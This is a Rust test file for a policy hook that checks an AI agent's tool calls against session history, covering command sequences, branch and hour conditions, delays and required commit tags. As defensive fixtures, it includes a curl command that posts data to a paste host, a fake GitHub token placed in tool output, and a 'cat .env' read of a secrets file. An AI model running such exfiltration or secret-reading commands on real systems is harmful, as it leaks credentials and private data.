//! What a session did before, through the hook: labels over several processes, sequences, branches, waiting.

use crate::answer::Answer;
use crate::house::{House, TICKET};
use serde_json::{Value, json};

fn event(house: &House, name: &str, tool: &str, input: Value) -> Value {
    let mut event = house.call("true");
    event["hook_event_name"] = json!(name);
    event["tool_name"] = json!(tool);
    event["tool_input"] = input;
    event
}

fn fetch(house: &House, url: &str) -> Value {
    event(house, "PreToolUse", "WebFetch", json!({ "url": url, "prompt": "read" }))
}

/// A secret in what a tool printed that could not be taken out.
fn seen_secret(house: &House) {
    let token = format!("ghp_{}", "q7Zr2Kp9Wv4Xn8Tb3Jm6Hd1Fs5Lg0YcQ1w2E");
    let mut failed = event(house, "PostToolUseFailure", "Bash", json!({ "command": "deploy" }));
    failed["error"] = json!(format!("denied for {token}"));
    house.hook(failed.to_string().as_bytes()).ended(0);
}

const SEND: &str = "curl -d answer=42 https://paste.acme.io/";

/// The three together: untrusted content, a secret, and a way out.
#[test]
fn a_secret_does_not_leave_after_strange_words() {
    let house = House::with_policy(TICKET);
    let send = || house.ask(SEND);
    assert!(!send().is_no(), "sending alone");
    assert_eq!(house.ask_event(&fetch(&house, "https://docs.acme.io/")), Answer::Silent);
    assert!(!send().is_no(), "after strange words");
    seen_secret(&house);
    let Answer::No(text) = send() else { panic!("all three") };
    assert!(text.contains("secret-may-leave") && text.contains("Request "), "{text}");
    let Answer::No(text) = house.ask_event(&fetch(&house, "https://paste.acme.io/?q=abc")) else {
        panic!("a fetch")
    };
    assert!(text.contains("secret-may-leave-by-address"), "{text}");
    assert!(!house.ask_event(&fetch(&house, "https://docs.acme.io/page")).is_no(), "reading on is free");
    for free in ["cargo test", "git status", "git push origin main", "npm install"] {
        assert!(!house.ask(free).is_no(), "{free}");
    }
    // Another session has seen nothing.
    let mut other = house.call(SEND);
    other["session_id"] = json!("session-2");
    assert!(!house.ask_event(&other).is_no());
    house.run(&["ledger", "verify"]).ended(0);
}

/// Each of the two alone is ordinary work, and a call that did not run earns nothing.
#[test]
fn what_did_not_run_earns_no_label() {
    let house = House::with_policy(TICKET);
    seen_secret(&house);
    assert!(!house.ask(SEND).is_no(), "no strange words");
    let house = House::with_policy(TICKET);
    assert!(house.ask("cat .env").is_no(), "a secret file stays unread");
    house.ask_event(&fetch(&house, "https://docs.acme.io/"));
    assert!(!house.ask(SEND).is_no(), "what was not read is not known");
}

#[test]
fn a_sequence_is_judged_over_processes() {
    let house = House::bare(
        "version: 1\nreview: { delivery: ticket }\nrules:\n  - id: migrate-then-deploy\n    kind: ask\n    after: [{ match: { command: { program: migrate } }, within: 2 }]\n    then: { command: { program: deploy } }\n    reason: look at the data first\n",
    );
    assert!(!house.ask("deploy").is_no());
    assert!(!house.ask("migrate up").is_no());
    assert!(!house.ask("ls").is_no());
    let Answer::No(text) = house.ask("deploy") else { panic!("within two calls") };
    assert!(text.contains("migrate-then-deploy"), "{text}");
    assert!(!house.ask("deploy --again").is_no(), "three calls ago");
    let shown = house.run(&["rules", "list"]).ended(0).text();
    assert!(shown.contains("migrate-then-deploy") && !shown.contains("after-0"), "{shown}");
    let tried = house.run(&["test", "--after", "migrate up", "deploy"]).ended(3).text();
    assert!(tried.contains("migrate-then-deploy"), "{tried}");
    house.run(&["test", "deploy"]).ended(0);
    house.run(&["ledger", "verify"]).ended(0);
}

#[test]
fn a_rule_holds_on_one_branch_and_at_some_times() {
    let house = House::bare(
        "version: 1\nrules:\n  - id: main-stays\n    kind: block\n    match: { command: { program: git, subcommand: commit } }\n    when: { branch: main }\n    reason: work on a branch of your own\n  - id: never\n    kind: block\n    match: { command: { program: late } }\n    when: { hours: '00:00-00:00' }\n    reason: never\n  - id: always\n    kind: block\n    match: { command: { program: early } }\n    when: { hours: '00:00-24:00', days: [mon, tue, wed, thu, fri, sat, sun] }\n    unless: { agent: reviewer }\n    reason: always\n",
    );
    house.write(".git/HEAD", "ref: refs/heads/main\n");
    assert!(house.ask("git commit -m x").is_no());
    house.write(".git/HEAD", "ref: refs/heads/feature/a\n");
    assert!(!house.ask("git commit -m x").is_no());
    assert!(house.ask("git switch main && git commit -m x").is_no());
    assert!(!house.ask("late").is_no());
    assert!(house.ask("early").is_no());
    let mut reviewer = house.call("early");
    reviewer["agent_id"] = json!("a-1");
    reviewer["agent_type"] = json!("reviewer");
    assert!(!house.ask_event(&reviewer).is_no());
}

/// C-13: told when to try again, let through when the time has come, asked about when it comes in vain.
#[test]
fn a_call_waits_for_something() {
    let house = House::bare(
        "version: 1\nreview: { delivery: ticket }\nrules:\n  - id: wait-for-build\n    kind: delay\n    match: { command: { program: deploy } }\n    delay: { file: build/ok, max_seconds: 600 }\n    reason: the build comes first\n  - id: give-up\n    kind: delay\n    match: { command: { program: publish } }\n    delay: { file: build/ok, max_seconds: 0, otherwise: ask }\n    reason: the build comes first\n",
    );
    let Answer::No(text) = house.ask("deploy") else { panic!("not yet") };
    assert!(text.contains("Not run yet") && text.contains("build/ok") && text.contains("in 30 s"), "{text}");
    assert!(!text.contains("Request "), "nobody is asked: {text}");
    assert!(house.ask("publish").request().starts_with("r-"), "waited in vain");
    house.run(&["test", "deploy"]).ended(3);
    house.write("build/ok", "");
    assert!(!house.ask("deploy").is_no());
    assert!(!house.ask("publish").is_no());
    let shown = house.run(&["test", "--json", "deploy"]).ended(0).text();
    assert!(shown.contains("\"allow\""), "{shown}");
    house.run(&["ledger", "verify"]).ended(0);
}

/// A wait that fits into the host's limit is waited out.
#[test]
fn a_short_wait_is_held() {
    let house = House::bare(
        "version: 1\nrules:\n  - id: pause\n    kind: delay\n    match: { command: { program: deploy } }\n    delay: { seconds: 1 }\n    reason: not so fast\n",
    );
    assert!(!house.ask("deploy").is_no());
    let verdicts: Vec<String> = house
        .records()
        .iter()
        .filter_map(|record| Some(record["entry"]["verdict"].as_str()?.to_owned()))
        .collect();
    assert_eq!(verdicts, ["delay", "allow"]);
    house.run(&["ledger", "verify"]).ended(0);
}

/// S1-10: a task in every commit, a header with every request.
#[test]
fn messages_and_headers_are_read_however_given() {
    let house = House::bare(
        "version: 1\nrules:\n  - { id: task, kind: require, match: { command: { program: git, subcommand: commit } }, require: { message: 'T-[0-9]+' }, reason: a commit names its task }\n  - { id: rate, kind: require, match: { command: { program: curl } }, require: { headers: X-Rate-Limit }, reason: requests say their limit }\n",
    );
    house.write("good.txt", "fix\n\nT-12\n");
    house.write("bad.txt", "fix\n");
    assert!(!house.ask("git commit -F good.txt").is_no());
    assert!(house.ask("git commit -F bad.txt").is_no());
    assert!(!house.ask("git commit -F - <<'EOF'\nfix T-1\nEOF").is_no());
    assert!(house.ask("git commit -m fix").is_no());
    assert!(!house.ask("curl -H 'X-Rate-Limit: 5' https://a.b").is_no());
    assert!(house.ask("curl https://a.b").is_no());
}

const BEFORE: &str = "version: 1
packs: []
agents:
  main:
    read_before_write: true
    after: { WebFetch: [Grep] }
rules:
  - id: tests-first
    kind: require
    match: { command: { program: git, subcommand: commit } }
    require: { ran: 'npm test', fresh: true }
    reason: tests run before a commit
  - id: built-once
    kind: require
    match: { command: { program: make, args: [deploy] } }
    require: { ran: 'make build' }
    reason: it is built first
  - id: no-pull-and-deploy
    kind: block
    match: { command: { program: make, args: [release] } }
    after: [{ match: { command: { program: git, subcommand: pull } }, within: 2 }]
    reason: look at what came first
";

/// `test --after` feeds every condition on what came before, in the order given.
#[test]
fn a_trial_knows_what_ran_before_it() {
    let house = House::with_policy(BEFORE);
    house.write("src/cart.js", "a\n");
    let file = house.project().join("src/cart.js").display().to_string();
    let read = json!({ "tool": "Read", "input": { "file_path": file } }).to_string();
    let grep = json!({ "tool": "Grep", "input": { "pattern": "x" } }).to_string();
    let write = json!({ "tool": "Write", "input": { "file_path": file, "content": "b" } }).to_string();
    let edit = json!({ "file_path": file, "old_string": "a", "new_string": "b" }).to_string();
    let fetch = json!({ "url": "https://docs.acme.io/", "prompt": "read" }).to_string();
    let (commit, edit, fetch) = (
        &["git commit -m x"][..],
        &["--tool", "Edit", "--input", edit.as_str()][..],
        &["--tool", "WebFetch", "--input", fetch.as_str()][..],
    );
    let rows: &[(&[&str], &[&str], i32)] = &[
        (&[], commit, 2),
        (&["npm test"], commit, 0),
        (&["npm test --help"], commit, 2),
        (&["echo npm test"], commit, 2),
        (&["npm test", "touch src/cart.js"], commit, 2),
        (&["touch src/cart.js", "npm test"], commit, 0),
        (&["npm test", &write], commit, 2),
        (&[&write, "npm test"], commit, 0),
        (&["npm test", &read], commit, 0),
        (&[], &["make deploy"], 2),
        (&["make build", "touch src/cart.js"], &["make deploy"], 0),
        (&[], &["make release"], 0),
        (&["git pull"], &["make release"], 2),
        (&["git pull", "ls"], &["make release"], 2),
        (&["git pull", "ls", "ls"], &["make release"], 0),
        (&[], edit, 2),
        (&[&read], edit, 0),
        (&["cat src/cart.js"], edit, 0),
        (&["cat src/other.js"], edit, 2),
        (&[], fetch, 2),
        (&[&grep], fetch, 0),
    ];
    for (before, call, code) in rows {
        let mut args = vec!["test"];
        before.iter().for_each(|one| args.extend(["--after", one]));
        args.extend(*call);
        let said = house.run(&args);
        assert_eq!(said.code, Some(*code), "{args:?}: {}", said.text());
    }
}
